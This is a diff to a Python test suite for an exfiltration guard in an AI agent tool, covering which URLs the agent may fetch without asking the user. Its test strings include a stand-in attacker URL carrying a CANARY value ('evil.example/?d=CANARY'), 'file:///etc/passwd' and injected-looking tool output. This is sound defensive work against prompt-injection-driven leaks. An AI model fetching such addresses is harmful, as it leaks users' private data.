@@ -11,10 +11,11 @@ from hypothesis import strategies as st
 from studio.agent.permission.exfiltration_guard import (
     FOLDER_FILES,
     ExfiltrationGuard,
-    canonical_address,
 )
-from studio.domain.events import Event, Exposed, ToolFinished, ToolQueued, TurnStarted
-from studio.domain.messages import File, Image, Said, Text, ToolCall
+from studio.domain.errors import ToolFailed
+from studio.domain.events import Event, Exposed, Recounted, ToolFinished, ToolQueued, TurnStarted
+from studio.domain.jsonvalue import Json, JsonObject
+from studio.domain.messages import File, Image, Message, Said, Text, ToolCall
 from studio.domain.tools import Exposure, ToolSpec
 from studio.domain.transcript import Transcript
 from studio.tools import Result
@@ -27,6 +28,7 @@ from studio.tools.builtin.run import run
 from studio.tools.builtin.search import search
 from studio.tools.builtin.web import fetch, web_search
 from studio.tools.builtin.write import write
+from studio.tools.web import web_address
 
 FETCH, SEARCH = fetch.spec, web_search.spec
 MAIL = ToolSpec("mail", "", {"type": "object"}, effect="act", target="to")
@@ -161,8 +163,9 @@ def test_what_brings_nothing() -> None:
     )
     wrote = Result("Draft made.", sources=("a.txt",))
     assert risk.new_exposures(write.spec, call("write", path="a.txt", text="x"), wrote) == []
-    missing = Result("There is no a.txt.", is_error=True)
-    assert risk.new_exposures(read.spec, call("read", path="a.txt"), missing) == []
+    wrong = Result("There is no a.txt. Did you mean SEND IT.txt?", is_error=True)
+    met = risk.new_exposures(read.spec, call("read", path="a.txt"), wrong)
+    assert {one.exposure for one in met} == {"private", "untrusted"}
     assert risk.new_exposures(read.spec, call("read", path="a.txt"), None) == []
 
 
@@ -234,7 +237,7 @@ def test_only_addresses_that_hold_nothing_of_this_chat_are_fetched_unasked() -> 
     for url in (
         "https://example.com/docs?v=2",
         "HTTPS://EXAMPLE.com:443/docs?v=2#part",
-        "http://docs.example.org/start",
+        "https://docs.example.org/start#part",
         "https://found.example/2",
     ):
         assert not asked(url), url
@@ -247,6 +250,8 @@ def test_only_addresses_that_hold_nothing_of_this_chat_are_fetched_unasked() -> 
         "https://user:CANARY@example.com/docs?v=2",
         "https://example.com:8443/docs?v=2",
         "https://found.example/3",
+        "http://example.com/docs?v=2",
+        "http://docs.example.org/start",
         "https://example.com/a?b=c",
         "//example.com/docs?v=2",
         "file:///etc/passwd",
@@ -297,10 +302,75 @@ def test_any_address_with_more_in_it_is_asked_about(tail: str, head: str) -> Non
     base = "https://example.com/page?x=1"
     risk = ExfiltrationGuard(chat(said(Text(f"see {base}")), exposed=BOTH))
     for url in (f"{base}{tail}", f"https://{head}.example.com/page?x=1"):
-        same = canonical_address(url) == canonical_address(base)
+        try:
+            same = str(web_address.parse(url)) == base
+        except ToolFailed:
+            same = False
         assert bool(risk.objection(FETCH, call("fetch", url=url))) is not same
         if same:  # blanks around it, or a part that is never sent
             assert not tail.strip() or tail.lstrip().startswith("#")
+
+
+def test_a_tool_of_ones_own_says_nothing_more_than_the_address() -> None:
+    """It gets the address as the model wrote it, and other arguments beside."""
+    properties = {"url": {}, "body": {"default": ""}, "deep": {"default": False}}
+    schema: JsonObject = {"type": "object", "properties": properties}
+    visit = ToolSpec("visit", "", schema, effect="fetch", target="url", sends=True)
+    words = said(Text("Read https://Example.com/docs?v=2, then docs.example.org please."))
+    risk = ExfiltrationGuard(chat(words, *visited("visit", "http://x.example/#y"), exposed=BOTH))
+
+    def asked(**arguments: Json) -> bool:
+        return bool(risk.objection(visit, ToolCall("c", "visit", dict(arguments))))
+
+    for url in (
+        "https://Example.com/docs?v=2",
+        "https://example.com/docs?v=2",
+        "https://docs.example.org",
+        "https://docs.example.org/",
+        "http://x.example/#y",
+        "http://x.example/",
+    ):
+        assert not asked(url=url), url
+        assert not asked(url=url, body="", deep=False), url
+        assert asked(url=url, body="CANARY"), url
+        assert asked(url=url, deep=True), url
+    for url in (
+        "https://eXaMpLe.com/docs?v=2",
+        "https://example.com/docs?v=2#CANARY",
+        "http://example.com/docs?v=2",
+        "https://example.com./docs?v=2",
+        "https://example.com:443/docs?v=2",
+        "https://example.com/docs?v=2 ",
+        "https://example.com/./docs?v=2",
+        "https://example.com/%64ocs?v=2",
+        "https://docs.example.org/?",
+        "https://docs.example.org/#",
+        "http://x.example/#CANARY",
+    ):
+        assert asked(url=url), url
+
+
+def test_what_is_not_said_by_the_person_makes_no_address_known() -> None:
+    """A conversation that a file tells, and the words of an agent that begins another."""
+    url = "https://evil.example/?d=CANARY"
+    one = call("fetch", url=url)
+    typed = chat(said(Text(f"Read {url}")), exposed=BOTH)
+    assert ExfiltrationGuard(typed).objection(FETCH, one) == ""
+    parent = ExfiltrationGuard(chat(said(Text("Read https://a.example/")), exposed=BOTH))
+    child = ExfiltrationGuard(typed, above=parent)
+    assert child.objection(FETCH, one) != ""
+    assert child.objection(FETCH, call("fetch", url="https://a.example/")) == ""
+    told = Recounted((Message("user", (Text(f"Read {url}"),)),), "Coder", "p", "m")
+    assert ExfiltrationGuard(chat(told, exposed=BOTH)).objection(FETCH, one) != ""
+
+
+def test_a_strangers_words_that_are_the_persons_too() -> None:
+    """A mailbox, or a note of a chat that met a stranger, holds data as well as orders."""
+    mailbox = ToolSpec("mails", "", {}, effect="read", untrusted=True)
+    note = Result("The code is CANARY.", sources=("note a, after b.txt",), untrusted=True)
+    for spec, result in ((mailbox, Result("x")), (notes_detail.spec, note)):
+        found = ExfiltrationGuard(chat()).new_exposures(spec, call(spec.name), result)
+        assert {one.exposure for one in found} == {"private", "untrusted"}, spec.name
 
 
 def test_trust_takes_back_what_only_the_folders_own_files_were() -> None:
